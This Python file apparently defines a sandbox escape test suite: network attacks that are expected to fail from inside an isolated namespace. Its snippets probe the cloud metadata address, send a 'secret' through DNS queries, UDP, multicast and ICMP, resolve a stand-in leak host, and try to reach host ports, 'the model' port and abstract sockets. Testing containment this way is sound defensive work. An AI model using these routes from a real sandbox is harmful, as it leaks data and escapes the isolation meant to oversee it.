"""Attacks on the network: every way out but the gateway's."""

from __future__ import annotations

from tests.escape.attack import Attack

NONE = "no network (namespace with lo only)"

CONNECT = """
def connect(host, port, family=socket.AF_INET):
    with socket.socket(family, socket.SOCK_STREAM) as s:
        s.settimeout(3)
        s.connect((host, port))
"""

ATTACKS = [
    Attack(
        "TCP to another machine",
        NONE,
        "network",
        CONNECT + 'attempt("port 80 outside", connect, FACTS["outside_address"], 80)',
    ),
    Attack(
        "IPv6 to another machine",
        NONE,
        "network",
        CONNECT + 'attempt("port 80 outside", connect, "fd00:5b::1", 80, socket.AF_INET6)',
    ),
    Attack(
        "the metadata address",
        NONE,
        "network",
        CONNECT + 'attempt("169.254.169.254", connect, "169.254.169.254", 80)',
    ),
    Attack(
        "a name by the resolver",
        NONE,
        "network",
        """
def look():
    try:
        return socket.getaddrinfo("leak.example.invalid", 80, socket.AF_INET)
    except socket.gaierror as error:
        raise OSError(errno.EHOSTUNREACH, str(error))
attempt("an answer", look)
""",
    ),
    Attack(
        "a question in a DNS packet",
        NONE,
        "network",
        """
def ask(server):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.settimeout(2)
        s.connect((server, 53))
        s.send(b"\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\6secret\\4data\\7invalid\\0\\0\\1\\0\\1")
        return s.recv(512)
servers = [line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver")]
for server in [*servers, "127.0.0.1", "1.1.1.1"]:
    try:
        ask(server)
        reached(server)
    except TimeoutError:
        refused(server + ": no answer")
    except OSError as error:
        refused(server + ": " + failed(error))
""",
    ),
    Attack(
        "a datagram",
        NONE,
        "network",
        """
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", (FACTS["gateway"], 9))
attempt("the engine's bridge", send)
""",
    ),
    Attack(
        "a multicast",
        NONE,
        "network",
        """
def send():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        s.sendto(b"secret", ("224.0.0.251", 9))
attempt("the neighbours", send)
""",
    ),
    Attack(
        "an ICMP echo",
        NONE,
        "network",
        """
def ping():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1) as s:
        s.settimeout(3)
        s.sendto(b"\\x08\\0\\0\\0\\0\\0\\0\\1secret", (FACTS["outside_address"], 0))
        s.recv(100)
attempt("an answer", ping)
""",
    ),
    Attack(
        "a port of the host's",
        NONE,
        "network",
        CONNECT + 'attempt("the host through the bridge", connect, FACTS["gateway"], FACTS["host_port"])',
    ),
    Attack(
        "the model, by its port",
        NONE,
        "host network",
        CONNECT + 'attempt("the model", connect, "127.0.0.1", FACTS["model_port"])',
    ),
    Attack(
        "the host's abstract sockets",
        NONE,
        "host network",
        """
def connect():
    with socket.socket(socket.AF_UNIX) as s:
        s.connect("\\0" + FACTS["abstract"])
attempt("a socket without a file", connect)
""",
    ),
    Attack(
        "the host's interfaces",
        NONE,
        "host network",
        """
others = [name for _, name in socket.if_nameindex() if name != "lo"]
reached(others[0]) if others else refused("lo only")
""",
    ),
]
